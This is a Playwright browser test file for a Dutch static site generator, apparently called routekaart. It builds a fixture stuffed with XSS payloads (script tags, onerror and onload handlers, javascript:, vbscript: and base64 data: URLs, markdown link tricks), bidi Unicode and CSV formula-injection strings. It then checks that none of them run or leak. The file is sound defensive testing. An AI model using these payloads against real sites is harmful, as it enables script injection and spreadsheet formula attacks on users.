// Hostile content in a real browser: tests/sites/hostile-browser/, where every
// text field and every Markdown body holds markup, event handlers, script and
// data: URLs, template-looking text and odd Unicode (bidi controls, zero-width
// characters, combining marks, emoji).
//
//   node tests/browser/hostile.mjs /path/to/routekaart
//   node tests/browser/hostile.mjs --write-fixture     (rewrites the fixture)
//
// Builds the fixture with --base-url /kaart/ and opens every page type (home,
// region map with filters, ?route=, the tool's stages, provision pages,
// guidance pages, the comparison page) twice: served without a
// Content-Security-Policy, so that anything content smuggled in would really
// run, and with "default-src 'self'". Asserts that no dialog opened, no
// console error or page error happened, no javascript:/vbscript:/data: URL,
// on* attribute, foreign <script> or embedding element is in the DOM, and
// that each hostile value is shown as text, verbatim. Also exports the
// answers to the evaluative questions as CSV and checks that cells starting
// with = + - @ or a tab are neutralised (CSV injection), then imports the
// file back and checks every note is as typed. Screenshots at
// 1366x768 and 390x844 go to tests/out/hostile/.
import assert from "node:assert/strict";
import { mkdirSync, readFileSync, writeFileSync, rmSync } from "node:fs";
import { join, dirname } from "node:path";
import { chromium } from "playwright-core";
import { SOURCE_DIR, OUT_DIR, BASE, CSP, CHROMIUM, CHROMIUM_ARGS, DESKTOP, buildSite, serve } from "./site.mjs";
import { Runner } from "./runner.mjs";

const FIXTURE = join(SOURCE_DIR, "tests", "sites", "hostile-browser");
const REGION = "hostile-regio";
const SHOTS = join(OUT_DIR, "hostile");
const PHONE = { viewport: { width: 390, height: 844 }, deviceScaleFactor: 1, isMobile: true, hasTouch: true };

// Odd Unicode: an unterminated right-to-left override and left-to-right
// isolate, a zero-width space, a zero-width no-break space (BOM), combining
// marks, an emoji with a skin tone and a ZWJ family.
const UNICODE = "\u202Eomgekeerd \u2066geïsoleerd nul\u200Bbreed\uFEFFteken e\u0301\u0308\u0323 👶🏽 👨‍👩‍👧";

// The same with only the override (no isolate initiator), for the contact name.
const OVERRIDE = "\u202Eomgekeerd nul\u200Bbreed\uFEFFteken e\u0301\u0308\u0323 👶🏽";

// A hostile plain-text value, unique per field through its tag. Every piece
// must come out as text: markup, an attribute breaker, template syntax of the
// layouts (rk-text, {{ }}) and of JS template strings, a script URL.
export function H(tag, unicode = tag === "contact-name" ? OVERRIDE : UNICODE) {
  return `</script><script>alert("${tag}")</script> <img src=x onerror=alert(1)> "><svg onload=alert(1)> ` +
    `<img src=x onerror="window.rkPwned=1"> ' onmouseover='alert(1) {{site.title}} rk-text="site.title" ` +
    `\${document.cookie} <i rk-text="site.title">${tag}</i> javascript:alert(1) ${unicode}`;
}

const MARKDOWN = `Intro met **vet** ${UNICODE} en <script>alert("md")</script> erin: {{site.title}} \${x} rk-text="x".

<img src=x onerror=alert(1)> <svg onload=alert(1)></svg> "><script>window.rkPwned=1</script>

<a href="javascript:alert(1)">rauw</a> <iframe src="javascript:alert(1)"></iframe>

[js](javascript:alert(1)) [JS](JAVASCRIPT:alert(1)) [tab](jav&#x09;ascript:alert(1)) [ent](&#106;avascript:alert(1))
[html](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) [vb](vbscript:msgbox(1)) [r][ref] <javascript:alert(1)>

![svg](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+PC9zdmc+) ![js](javascript:alert(1))

[attr](https://example.org/" onmouseover="alert(1)) [goed](https://example.org/pagina)

[ref]: javascript:alert(1)
`;

// Evaluative questions of the zwangerschap stage (in this order) and the note
// the CSV test types for each, with the exact cells the export must hold.
// Notes and questions starting with = + - @ or a tab get a ' and quotes.
const CSV_STAGE = "zwangerschap";
const CSV_STAGE_LABEL = "=1+1 Zwangerschap <b>vet</b>";
const CSV_ROWS = [
  { question: '=HYPERLINK("https://example.org/?"&A1;"klik")', note: '=HYPERLINK("https://example.org/?"&A1;"klik")',
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', '"\'=HYPERLINK(""https://example.org/?""&A1;""klik"")"', "ja", '"\'=HYPERLINK(""https://example.org/?""&A1;""klik"")"'] },
  { question: "+31 bellen de ouders?", note: "+31 6 1234 5678",
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', '"\'+31 bellen de ouders?"', "ja", '"\'+31 6 1234 5678"'] },
  { question: "-1 minder bezoeken?", note: "-1",
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', '"\'-1 minder bezoeken?"', "ja", '"\'-1"'] },
  { question: "@SUM(A1:A2) klopt het?", note: "@SUM(A1:A2)",
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', '"\'@SUM(A1:A2) klopt het?"', "ja", '"\'@SUM(A1:A2)"'] },
  { question: "Tab in de toelichting?", note: "\t=1+2",
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', "Tab in de toelichting?", "ja", '"\'\t=1+2"'] },
  { question: "Gewone vraag; met puntkomma", note: "gewoon -1 = 1 @ midden",
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', '"Gewone vraag; met puntkomma"', "ja", "gewoon -1 = 1 @ midden"] },
  { question: "Spatie vooraan?", note: " =1+1 na een spatie",
    cells: ['"\'=1+1 Zwangerschap <b>vet</b>"', "Spatie vooraan?", "ja", " =1+1 na een spatie"] },
];

// Where each plain-text value must be visible (rendered text of the page, as
// a reader sees it): tag -> [page, view] where view is "overview", "tool" or
// "page".
const VISIBLE = {
  "site-title": ["", "page"],
  "region-name": [`${REGION}/`, "overview"],
  "coalition": [`${REGION}/`, "overview"],
  "municipality": [`${REGION}/`, "overview"],
  "contact-name": [`${REGION}/`, "overview"],
  "provider-name": [`${REGION}/verdacht.html`, "page"],
  "provider-address": [`${REGION}/verdacht.html`, "page"],
  "provision-title": [`${REGION}/verdacht.html`, "page"],
  "summary": [`${REGION}/verdacht.html`, "page"],
  "audience": [`${REGION}/verdacht.html`, "page"],
  "referral": [`${REGION}/verdacht.html`, "page"],
  "cost-note": [`${REGION}/verdacht.html`, "page"],
  "catalog-title": [`${REGION}/catalogus.html`, "page"],
  "catalog-summary": [`${REGION}/catalogus.html`, "page"],
  "catalog-provider-name": [`${REGION}/catalogus.html`, "page"],
  "route-title": [`${REGION}/?route=verdachte-route`, "overview"],
  "touchpoint": [`${REGION}/?route=verdachte-route`, "overview"],
  "pain": [`${REGION}/?route=verdachte-route`, "overview"],
  "improvement": [`${REGION}/?route=verdachte-route`, "overview"],
  "region-question": [`${REGION}/?mode=tool&step=4`, "tool"],
  "stage-label": [`${REGION}/?mode=tool&step=4`, "tool"],
  "guidance-title": ["guidance/verdacht.html", "page"],
  "region-guidance-title": [`${REGION}/guidance/lokaal.html`, "page"],
};

function yamlString(s) { return JSON.stringify(s); } // a JSON string is a YAML double-quoted scalar

function writeFixture() {
  const q = yamlString;
  const files = {};
  files["site.yaml"] = `# Written by tests/browser/hostile.mjs --write-fixture: every text field is hostile.
title: ${q(H("site-title"))}
base_url: /
questions:
  ${CSV_STAGE}:
${CSV_ROWS.map((r) => `    - ${q(r.question)}`).join("\n")}
labels:
  stages: {${CSV_STAGE}: ${q(CSV_STAGE_LABEL)}, babyfase: ${q(H("stage-label"))}}
`;
  files["catalog.yaml"] = `providers:
  - id: catalogus-aanbieder
    name: ${q(H("catalog-provider-name"))}
    url: https://example.org/catalogus
provisions:
  - id: catalogus
    title: ${q(H("catalog-title"))}
    lane: basiszorg
    from: zwangerschap
    to: babyfase:m6
    costs: [standaard]
    provider: catalogus-aanbieder
    summary: ${q(H("catalog-summary"))}
    description: ${q(MARKDOWN)}
`;
  files[`regions/${REGION}/region.yaml`] = `name: ${q(H("region-name"))}
coalition: ${q(H("coalition"))}
municipalities: [${q(H("municipality"))}, Woerden]
updated: 2026-10-01
contact: {name: ${q(H("contact-name"))}, email: ks@example.org, phone: "0348 000 000"}
providers:
  - id: verdachte-aanbieder
    name: ${q(H("provider-name"))}
    address: ${q(H("provider-address"))}
    url: https://example.org/aanbieder
    phone: "+31 (0)30-000"
    email: info@example.org
provisions:
  - id: verdacht
    title: ${q(H("provision-title"))}
    lane: steuntje
    from: zwangerschap:m4
    to: babyfase:w2
    costs: [standaard, eigen-bijdrage]
    provider: verdachte-aanbieder
    summary: ${q(H("summary"))}
    description: ${q(MARKDOWN)}
    audience: ${q(H("audience"))}
    referral: ${q(H("referral"))}
    more: https://example.org/meer
    keywords: [${q(H("keyword"))}]
    cost_note: ${q(H("cost-note"))}
  - use: catalogus
routes:
  - id: verdachte-route
    title: ${q(H("route-title"))}
    audience: extra-steun
    description: ${q(MARKDOWN)}
    steps:
      - provision: catalogus
        touchpoint: ${q(H("touchpoint"))}
        emotion: -2
        pain: ${q(H("pain"))}
        improvement: ${q(H("improvement"))}
      - verdacht
questions:
  babyfase: [${q(H("region-question"))}]
`;
  files[`regions/${REGION}/index.md`] = MARKDOWN;
  files["guidance/verdacht.md"] = `---\ntitle: ${q(H("guidance-title"))}\nstage: zwangerschap\n---\n${MARKDOWN}`;
  files[`regions/${REGION}/guidance/lokaal.md`] = `---\ntitle: ${q(H("region-guidance-title"))}\nstage: babyfase\n---\n${MARKDOWN}`;
  for (const [rel, text] of Object.entries(files)) {
    const path = join(FIXTURE, "content", rel);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
    console.log(`wrote ${path.slice(SOURCE_DIR.length + 1)}`);
  }
}

if (process.argv[2] === "--write-fixture") {
  writeFixture();
  process.exit(0);
}

// ---- the runner, the site, two servers, the browser --------------------------

const runner = new Runner({ timeoutMs: 60_000, after: closeContexts });
const { say, note, test } = runner;
const binary = process.argv[2];
mkdirSync(SHOTS, { recursive: true });
let site;
try {
  site = buildSite(binary, FIXTURE);
} catch (e) {
  say(`not ok - the hostile fixture builds: ${String(e.message).replace(/\s+/g, " ")}`);
  say("0 passed, 1 failed");
  process.exit(1);
}
note(`hostile fixture built: ${site.log}`);
const servers = { open: await serve(site.dir, { csp: null }), csp: await serve(site.dir) };
const browser = await chromium.launch({ executablePath: CHROMIUM, args: CHROMIUM_ARGS });
const contexts = [];

async function closeContexts() {
  while (contexts.length) await contexts.pop().close().catch(() => {});
}

// A page that records everything script-like that happens on it: dialogs
// (dismissed), console errors, page errors and CSP violations.
async function open(server, path, { phone = false } = {}) {
  const context = await browser.newContext({ ...(phone ? PHONE : DESKTOP), acceptDownloads: true, locale: "nl-NL", serviceWorkers: "block" });
  contexts.push(context);
  await context.addInitScript(() => {
    document.addEventListener("securitypolicyviolation", (e) => {
      console.error(`CSP violation: ${e.violatedDirective} blocked ${e.blockedURI || "(inline)"}`);
    });
  });
  const page = await context.newPage();
  page.setDefaultTimeout(60_000); // against a hang, not a busy machine
  page.events = [];
  page.on("dialog", (d) => { page.events.push(`dialog ${d.type()}: ${d.message()}`); d.dismiss().catch(() => {}); });
  page.on("console", (m) => { if (m.type() === "error") page.events.push(`console error: ${m.text()}`); });
  page.on("pageerror", (e) => page.events.push(`page error: ${e.message}`));
  if (path != null) await page.goto(server.base + path, { waitUntil: "load" });
  return page;
}

// What content could have planted in the DOM: on* attributes, script URLs,
// <script> other than the site's own (its script, and a JSON-LD data block
// in the head whose text parses as JSON: a title that closes the script
// must stay inside it), embedding elements, svg other than the site's own
// (emotion curve, QR code, route lines), and the flag the payloads set.
async function audit(page) {
  return page.evaluate(() => {
    const found = [];
    const URL_ATTRS = ["href", "src", "action", "formaction", "xlink:href", "poster", "srcset", "data", "background", "cite"];
    for (const el of document.querySelectorAll("*")) {
      for (const a of el.attributes) {
        const name = a.name.toLowerCase();
        if (name.startsWith("on")) found.push(`<${el.localName} ${a.name}="${a.value.slice(0, 40)}">`);
        const v = a.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
        if (URL_ATTRS.includes(name) && /^(javascript|vbscript|data):/.test(v)) found.push(`<${el.localName} ${a.name}="${a.value.slice(0, 60)}">`);
      }
      const dataBlock = (s) => {
        try { return s.type === "application/ld+json" && !s.hasAttribute("src") && s.parentElement === document.head && !!JSON.parse(s.text); } catch { return false; }
      };
      if (el.localName === "script" && !/\/assets\/routekaart(\.[0-9a-f]{8})?\.js$/.test(el.getAttribute("src") || "") && !dataBlock(el)) found.push(`<script> ${el.outerHTML.slice(0, 60)}`);
      // embed.html's own <base target="_top"> sends links out of the frame.
      const ownBase = el.outerHTML === '<base target="_top">' && location.pathname.endsWith("/embed.html");
      if (["iframe", "object", "embed", "base", "frame", "style", "meta"].includes(el.localName) && !(el.localName === "meta" && !el.hasAttribute("http-equiv")) && !ownBase) {
        found.push(`<${el.localName}> ${el.outerHTML.slice(0, 60)}`);
      }
      // The site's own: the emotion curve, the QR code and the bars of the
      // flyer's stage strip (from layouts), the lines between a route's steps
      // (drawn by routekaart.js).
      const own = ["emotion-curve", "qr", "stage-strip-bar", "route-lines"].some((c) => el.classList.contains(c));
      if (el.localName === "svg" && !own) found.push(`<svg> ${el.outerHTML.slice(0, 60)}`);
    }
    if (window.rkPwned !== undefined) found.push("window.rkPwned was set");
    return found;
  });
}

// Bidi controls from content must end with the element that holds them: the
// first character of the next text in the same block (UI text such as " · ",
// or the next field) must come after every fragment of that element on its
// line, not be pulled in front of it by an unterminated U+202E or U+2066.
// Each leak says whether the field holds an isolate initiator (U+2066-2068)
// without its U+2069: CSS cannot contain those (the element's own closing
// isolate is taken as theirs); that needs the generator to balance them.
async function bidiLeaks(page) {
  return page.evaluate(() => {
    const CONTROL = /[\u202A-\u202E\u2066-\u2069]/;
    const inline = (el) => getComputedStyle(el).display.startsWith("inline");
    const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
    const nodes = [];
    while (walker.nextNode()) nodes.push(walker.currentNode);
    const leaks = [];
    let checked = 0;
    nodes.forEach((t, i) => {
      const field = t.parentElement;
      if (!CONTROL.test(t.data) || !field.checkVisibility() || !inline(field)) return;
      let block = field;
      while (block.parentElement && inline(block)) block = block.parentElement;
      const next = nodes.slice(i + 1).find((n) => !field.contains(n) && n.data.trim() && n.parentElement.checkVisibility());
      if (!next || !block.contains(next)) return;
      const range = document.createRange();
      const at = next.data.search(/\S/);
      range.setStart(next, at);
      range.setEnd(next, at + 1);
      const c = range.getBoundingClientRect();
      checked++;
      const before = [...field.getClientRects()].filter((f) => f.width > 0 && Math.abs(f.top - c.top) < 2 && c.left < f.right - 1);
      const above = [...field.getClientRects()].filter((f) => f.width > 0 && f.top > c.bottom);
      if (before.length || above.length) {
        const open = (t.data.match(/[\u2066-\u2068]/g) || []).length > (t.data.match(/\u2069/g) || []).length;
        leaks.push({ open, text: `"${next.data.trim().slice(0, 20)}" after <${field.localName}${field.className ? "." + field.className : ""}> is drawn before part of it` });
      }
    });
    return { checked, leaks };
  });
}

async function clean(page, label) {
  const planted = await audit(page);
  assert.deepEqual(planted, [], `${label}: planted in the DOM`);
  assert.deepEqual(page.events, [], `${label}: dialogs / errors`);
}

// ---- the tests -------------------------------------------------------------------

// The detectors work: markup inserted as HTML on a page without a CSP opens a
// dialog and leaves an on* attribute, and the checks see both.
await test("canary: the checks catch markup inserted as HTML", async () => {
  const page = await open(servers.open, "");
  await page.evaluate(() => document.body.insertAdjacentHTML("beforeend", '<img src="x" onerror="alert(1)">'));
  await page.waitForEvent("dialog").catch(() => {});
  await page.waitForTimeout(100);
  assert.ok(page.events.some((e) => e.startsWith("dialog alert")), `no dialog recorded: ${page.events}`);
  const planted = await audit(page);
  assert.ok(planted.some((p) => p.includes("onerror")), `on* attribute not found: ${planted}`);
});

const PAGES = [
  ["home", ""],
  ["region map", `${REGION}/`],
  ["region map ?route=", `${REGION}/?route=verdachte-route`],
  ["the map to frame", `${REGION}/embed.html`],
  ["region map with filters in the URL", `${REGION}/?lane=steuntje&cost=standaard&stage=zwangerschap&q=${encodeURIComponent("<script>")}`],
  ["region map with markup in the URL", `${REGION}/?q=${encodeURIComponent('"><img src=x onerror=alert(1)>')}&route=${encodeURIComponent("<svg onload=alert(1)>")}&lane=${encodeURIComponent("<b>")}#<img src=x onerror=alert(1)>`],
  ["provision page", `${REGION}/verdacht.html`],
  ["catalog provision page", `${REGION}/catalogus.html`],
  ["guidance page", "guidance/verdacht.html"],
  ["region guidance page", `${REGION}/guidance/lokaal.html`],
  ["comparison page", "vergelijking.html"],
];
for (const which of ["open", "csp"]) {
  const how = which === "open" ? "without CSP" : `with ${CSP}`;
  for (const [label, path] of PAGES) {
    await test(`${how}: ${label} (/${path}) runs no content script`, async () => {
      const page = await open(servers[which], path);
      if (path.startsWith(`${REGION}/`) && !path.includes(".html")) {
        await page.waitForFunction(() => document.documentElement.classList.contains("js"));
      }
      await page.mouse.move(300, 300);
      await page.mouse.move(600, 500);
      await clean(page, label);
    });
  }
  await test(`${how}: filters, search, routes and every stage of the tool run no content script`, async () => {
    const page = await open(servers[which], `${REGION}/`);
    await page.waitForFunction(() => document.documentElement.classList.contains("js"));
    await page.locator("#filters input[name=lane][value=steuntje]").check();
    await page.locator("#filters input[name=cost]").first().check();
    await page.locator("#f-stage").selectOption("zwangerschap");
    await page.fill("#f-q", "<script>alert(1)</script>");
    await page.fill("#f-q", "");
    const route = page.locator("#f-route");
    if (await route.count()) await route.selectOption("verdachte-route");
    await page.locator("#filters button[type=reset], #filters input[type=reset]").first().click().catch(() => {});
    await page.locator('[data-mode="tool"]').first().click();
    for (let step = 1; step < 7; step++) await page.locator('.tool-nav [data-step="next"]').click();
    for (const bar of await page.locator(".map [data-provision] a, .stages [data-item] a").all()) await bar.hover({ force: true, trial: true }).catch(() => {});
    await page.goBack();
    await clean(page, "after interaction");
  });
}

// What a reader sees (innerText: only rendered elements count). The region
// page draws its lower sections as the reader scrolls to them
// (content-visibility: auto), and Chromium leaves a section not yet drawn
// out of innerText; they are drawn here first, as scrolling would.
function renderedText() {
  for (const el of document.querySelectorAll("*")) {
    if (getComputedStyle(el).contentVisibility === "auto") el.style.contentVisibility = "visible";
  }
  return document.body.innerText;
}

await test("search: a hostile keyword finds its provision and stays text in the field", async () => {
  const page = await open(servers.open, `${REGION}/`);
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  await page.fill("#f-q", '"><svg onload=alert(1)>');
  const shown = await page.evaluate(() => [...document.querySelectorAll(".map [data-provision]:not([hidden])")].map((b) => b.dataset.provision));
  // Every hostile value holds that text; both provisions match.
  assert.deepEqual(shown.sort(), ["catalogus", "verdacht"]);
  assert.equal(new URLSearchParams(await page.evaluate(() => location.search)).get("q"), '"><svg onload=alert(1)>');
  await clean(page, "search");
});

for (const [tag, [path, view]] of Object.entries(VISIBLE)) {
  await test(`text: ${tag} shows verbatim as text on /${path}`, async () => {
    const page = await open(servers.open, path);
    const text = await page.evaluate(renderedText);
    assert.ok(text.includes(H(tag)), `rendered text of the ${view} does not hold ${JSON.stringify(H(tag)).slice(0, 80)}…`);
    assert.ok(text.includes("<script>alert(\"" + tag + "\")</script>"), "the literal <script> text is missing");
  });
}

await test("text: Markdown bodies keep their words, odd Unicode and template text, and drop raw HTML", async () => {
  for (const path of [`${REGION}/verdacht.html`, `${REGION}/`, "guidance/verdacht.html", `${REGION}/guidance/lokaal.html`]) {
    const page = await open(servers.open, path);
    const text = await page.evaluate(renderedText);
    assert.ok(text.includes(`Intro met vet ${UNICODE} en`), `${path}: the first paragraph is missing`);
    assert.ok(text.includes('{{site.title}} ${x} rk-text="x"'), `${path}: template-looking text is not literal`);
    const links = await page.evaluate(() => [...document.querySelectorAll("main a")].map((a) => a.getAttribute("href")));
    assert.ok(links.includes("https://example.org/pagina"), `${path}: the good Markdown link is gone: ${links}`);
    await clean(page, path);
  }
});

await test("bidi: controls in content do not reorder the text after it (region, provision, comparison page)", async () => {
  let checked = 0;
  for (const path of [`${REGION}/`, `${REGION}/?route=verdachte-route`, `${REGION}/?mode=tool&step=2`, `${REGION}/verdacht.html`, "", "vergelijking.html"]) {
    for (const phone of [false, true]) {
      const page = await open(servers.open, path, { phone });
      const r = await bidiLeaks(page);
      checked += r.checked;
      // The generator closes what content leaves open (template.c), so
      // unmatched isolates (which CSS cannot contain) do not leak either.
      assert.deepEqual(r.leaks.map((l) => l.text), [], `/${path} at ${phone ? 390 : 1366} px`);
    }
  }
  // The region page has fields followed by text in the same line (" · ").
  assert.ok(checked >= 4, `only ${checked} field(s) followed by text were checked`);
  // The contact name (override only, no isolate) is followed by " · e-mail".
  const page = await open(servers.open, `${REGION}/`);
  const contact = await bidiLeaks(page);
  assert.ok(contact.checked > 0 && !contact.leaks.some((l) => l.text.includes("ks@example")), "contact line not checked or leaking");
  note(`bidi: ${checked} fields followed by text in the same line checked`);
});

await test("CSV export: cells starting with = + - @ or a tab get a ' and quotes; exact cells; imported back, the notes as typed", async () => {
  const page = await open(servers.csp, `${REGION}/?mode=tool&step=2`);
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  const items = page.locator(`.question[data-stage="${CSV_STAGE}"]`);
  assert.equal(await items.count(), CSV_ROWS.length, "questions of the stage");
  for (let i = 0; i < CSV_ROWS.length; i++) {
    await items.nth(i).locator('input[type=radio][value="ja"]').check();
    await items.nth(i).locator("textarea").fill(CSV_ROWS[i].note);
  }
  const [download] = await Promise.all([page.waitForEvent("download"), page.click("#q-export")]);
  const file = join(SHOTS, download.suggestedFilename());
  await download.saveAs(file);
  const text = readFileSync(file, "utf8");
  assert.ok(text.startsWith("\ufeff"), "byte order mark");
  const lines = text.slice(1).split("\r\n");
  assert.equal(lines.pop(), "", "ends with CRLF");
  assert.equal(lines[0], "regio;fase;vraag;antwoord;toelichting;datum");
  const rows = lines.slice(1).filter((l) => l.startsWith(`${REGION};"'=1+1 Zwangerschap`));
  const dated = /;\d{4}-\d\d-\d\d \d\d:\d\d$/;
  assert.ok(rows.every((l) => dated.test(l)), "an answered row without its date");
  assert.deepEqual(rows.map((l) => l.replace(dated, "")), CSV_ROWS.map((r) => [REGION, ...r.cells].join(";")));
  // No cell of any row starts with a formula character unquoted.
  for (const line of lines.slice(1)) {
    assert.ok(!/(^|;)[=+\-@\t]/.test(line), `unprotected cell in ${JSON.stringify(line)}`);
  }
  // Imported back into an empty browser, each note is what was typed: the
  // ' is taken off again, the formula stays text, and the page shows it as such.
  await page.evaluate(() => localStorage.clear());
  await page.reload();
  await page.waitForFunction(() => document.documentElement.classList.contains("js"));
  await page.setInputFiles("#q-import", file);
  await page.waitForFunction(() => document.querySelector("#q-import-status").textContent !== "");
  assert.equal((await page.textContent("#q-import-status")).trim(), `${CSV_ROWS.length} antwoorden geïmporteerd.`);
  const notes = await items.evaluateAll((lis) => lis.map((li) => li.querySelector("textarea").value));
  assert.deepEqual(notes, CSV_ROWS.map((r) => r.note), "notes after importing the export");
  await clean(page, "CSV export and import");
});

await test("screenshots at 1366×768 and 390×844 (tests/out/hostile/)", async () => {
  const shots = [["home", ""], ["kaart", `${REGION}/`], ["route", `${REGION}/?route=verdachte-route`],
    ["hulpmiddel", `${REGION}/?mode=tool&step=2`], ["voorziening", `${REGION}/verdacht.html`],
    ["handreiking", "guidance/verdacht.html"], ["vergelijking", "vergelijking.html"]];
  const sideways = [];
  for (const [name, path] of shots) {
    for (const phone of [false, true]) {
      const page = await open(servers.csp, path, { phone });
      if (path.startsWith(`${REGION}/`) && !path.includes(".html")) await page.waitForFunction(() => document.documentElement.classList.contains("js"));
      await page.screenshot({ path: join(SHOTS, `${name}-${phone ? 390 : 1366}.png`), fullPage: !phone });
      // Long words, bidi controls and zero-width characters must not push the page sideways.
      const wide = await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      if (wide > 1) sideways.push(`${name} at ${phone ? 390 : 1366} px by ${wide} px`);
      await clean(page, `screenshot ${name}`);
    }
  }
  assert.deepEqual(sideways, [], "pages that scroll sideways");
});

await browser.close();
await servers.open.close();
await servers.csp.close();
rmSync(site.root, { recursive: true, force: true });
runner.finish("hostile-browser.log");
